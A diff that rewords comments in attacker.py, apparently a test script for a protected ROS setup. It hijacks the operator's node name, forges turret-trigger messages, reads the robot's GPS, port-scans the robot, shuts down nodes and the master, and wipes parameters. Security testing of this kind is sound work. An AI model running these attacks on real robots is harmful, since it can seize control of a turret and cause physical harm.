@@ -1,8 +1,8 @@
-"""What somebody on the robot's network can try with nothing but Python: attacker.py [ATTACK …]
+"""Try attacks that any host on the robot's network can make with only Python: attacker.py [ATTACK …]
 
-Knows the master's address (ROS_MASTER_URI) and the names of the robot's nodes and topics, as anybody can
-who has seen one such robot. Prints one JSON object per attack: `attack`, `succeeded`, `tried`, `answer`.
-Against a plain master each of them succeeds.
+It knows the master's address (ROS_MASTER_URI), and the names of the robot's nodes and topics, as anyone does who
+has seen one such robot. It prints one JSON object per attack: `attack`, `succeeded`, `tried`, `answer`.
+Behind a plain master each attack succeeds.
 """
 
 import contextlib
@@ -21,12 +21,12 @@ from urllib.parse import urlsplit
 
 MASTER = os.environ["ROS_MASTER_URI"]
 MY_ADDRESS = os.environ["ROS_IP"]
-MY_API = f"http://{MY_ADDRESS}:40404/"  # nobody listens there
-ME = "/tablet"  # a name of this host: whoever took the host over may use it
+MY_API = f"http://{MY_ADDRESS}:40404/"  # no program listens on this port
+ME = "/tablet"  # a name that belongs to this host, so an attacker who took over the host may use it
 VICTIM = "/landshark_laser"
 BATTERY, GPS = "/landshark/battery", "/landshark/gps"
 LIMIT = 3.0
-NODE_LIMIT = 15.0  # behind a master that does not speak to it, a node tries for ever
+NODE_LIMIT = 15.0  # behind a master that does not answer, a node tries for ever
 ROBOT = os.environ.get("LANDSHARK", "10.77.0.10")
 NODE_PORTS = range(32768, 61000)  # where Linux puts programs that do not choose: ROS nodes
 RELAY_PORTS = range(19001, 19061)  # where the appliance's node ports usually begin
@@ -35,14 +35,14 @@ FAILURES = (OSError, http.client.HTTPException, xmlrpc.client.Error)
 
 class _Transport(xmlrpc.client.Transport):
     def make_connection(self, host):
-        """A connection with a time limit."""
+        """Return a connection with a time limit."""
         connection = super().make_connection(host)
         connection.timeout = LIMIT
         return connection
 
 
 def call(uri, method, *parameters):
-    """One XML-RPC call: the answer, or the failure as an answer."""
+    """Make one XML-RPC call; return the answer, or the failure in the form of an answer."""
     try:
         with xmlrpc.client.ServerProxy(uri, transport=_Transport(), allow_none=True) as server:
             return list(getattr(server, method)(*parameters))
@@ -51,7 +51,7 @@ def call(uri, method, *parameters):
 
 
 def granted(answer):
-    """Whether a ROS API said yes."""
+    """Whether a ROS API reported success."""
     return bool(answer) and answer[0] == 1
 
 
@@ -62,12 +62,12 @@ def look_around():
 
 
 def take_over_the_operator():
-    """Register a node under the operator's name: ROS shuts the real one down."""
+    """Register a node under the operator's name, so that ROS shuts the real one down."""
     return forge("ocu")
 
 
 def forge_the_trigger():
-    """Publish on the trigger topic under one's own name."""
+    """Publish on the trigger topic under the attacker's own name."""
     return forge(ME.strip("/"))
 
 
@@ -84,33 +84,33 @@ def forge(name):
         )
     said = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
     drivers = said[-1]["drivers"] if said else 0
-    # rospy tells the master's reason in its log, by which a person would read it, too
+    # rospy logs the master's reason
     reasons = [line for line in done.stderr.splitlines() if line.strip()]
     answer = said or reasons[-1:] or [f"the node ended with {done.returncode}"]
     return drivers > 0, f"a node /{name} that publishes /landshark_control/trigger", answer
 
 
 def replace_a_driver():
-    """Register under the turret driver's name, to receive what the operator tells it."""
+    """Register under the turret driver's name, to receive the operator's commands."""
     arguments = ("/landshark_turret", "/landshark_control/trigger", "*", MY_API)
     answer = call(MASTER, "registerSubscriber", *arguments)
-    if granted(answer):  # leave the place as it was found
+    if granted(answer):  # undo it
         call(MASTER, "unregisterSubscriber", "/landshark_turret", "/landshark_control/trigger", MY_API)
     return granted(answer), "registerSubscriber(/landshark_turret, /landshark_control/trigger)", answer
 
 
 def watch_the_battery():
-    """Read the charge of the battery: what the host is there for."""
+    """Read the charge of the battery, which is this host's task."""
     return subscribe(BATTERY)
 
 
 def spy_on_gps():
-    """Read where the robot is."""
+    """Read the robot's position."""
     return subscribe(GPS)
 
 
 def subscribe(topic):
-    """Get one message of a topic, as a subscriber does."""
+    """Receive one message of a topic, as a subscriber does."""
     tried = f"registerSubscriber({ME}, {topic})"
     answer = call(MASTER, "registerSubscriber", ME, topic, "*", MY_API)
     if not granted(answer):
@@ -124,7 +124,7 @@ def subscribe(topic):
 
 
 def reads(host, port, topic):
-    """Whether a TCPROS port gives a message of the topic to a stranger."""
+    """Whether a TCPROS port sends a message of the topic to an unknown host."""
     fields = {"callerid": ME, "topic": topic, "type": "*", "md5sum": "*", "tcp_nodelay": "0"}
     body = b"".join(
         struct.pack("<I", len(text)) + text for text in (f"{k}={v}".encode() for k, v in fields.items())
@@ -139,7 +139,7 @@ def reads(host, port, topic):
 
 
 def exactly(peer, size):
-    """So many bytes."""
+    """Receive exactly this number of bytes."""
     if size > 1 << 20:
         raise OSError("no ROS header")
     data = b""
@@ -162,7 +162,7 @@ def kill_a_node():
 
 
 def try_every_port():
-    """Go past the master: call `shutdown` on, and read the position from, whatever listens where it does."""
+    """Bypass the master: call `shutdown` on every open port, and try to read the position from it."""
     host = urlsplit(MASTER).hostname
     said = []
     for port in RELAY_PORTS:
@@ -179,7 +179,7 @@ def try_every_port():
 
 
 def go_past_the_master():
-    """Find the nodes' own ports on the robot by trying all, and call `shutdown` of the first that answers."""
+    """Try all ports of the robot to find a node's own, and call `shutdown` on the first that answers."""
     tried = f"shutdown() of a node, found by a port scan of {ROBOT}"
     ports = open_ports(ROBOT, NODE_PORTS)
     for port in ports:
@@ -191,7 +191,7 @@ def go_past_the_master():
 
 
 def open_ports(host, ports, at_once=800, seconds=0.25):
-    """The ports that take a connection, so many tried at a time."""
+    """Return the ports that accept a connection, trying `at_once` ports at a time."""
     found = []
     for start in range(0, len(ports), at_once):
         with selectors.DefaultSelector() as selector, contextlib.ExitStack() as opened:
@@ -210,7 +210,7 @@ def open_ports(host, ports, at_once=800, seconds=0.25):
 
 
 def stop_the_clock():
-    """Set the parameter that makes every node started from now on wait for a clock that never ticks."""
+    """Set the parameter that makes nodes which start later wait for a clock that never ticks."""
     answer = call(MASTER, "setParam", ME, "/use_sim_time", True)
     if granted(answer):
         call(MASTER, "deleteParam", ME, "/use_sim_time")
@@ -218,13 +218,13 @@ def stop_the_clock():
 
 
 def wipe_the_parameters():
-    """Put an empty tree in the place of all parameters."""
+    """Replace all parameters with an empty tree."""
     answer = call(MASTER, "setParam", ME, "/", {})
     return granted(answer), "setParam(/, {})", answer
 
 
 def stop_the_master():
-    """Shut the master itself down."""
+    """Shut down the master itself."""
     answer = call(MASTER, "shutdown", ME, "goodbye")
     return granted(answer), "shutdown() of the master (shutdownMaster)", answer
 
@@ -246,7 +246,7 @@ ATTACKS = {
 
 
 def main():
-    """Try the attacks that are named, or all."""
+    """Try the named attacks, or all."""
     unknown = [name for name in sys.argv[1:] if name not in ATTACKS]
     if unknown:
         sys.exit(f"attacker.py: no attack {unknown[0]!r}; there are: {', '.join(ATTACKS)}")
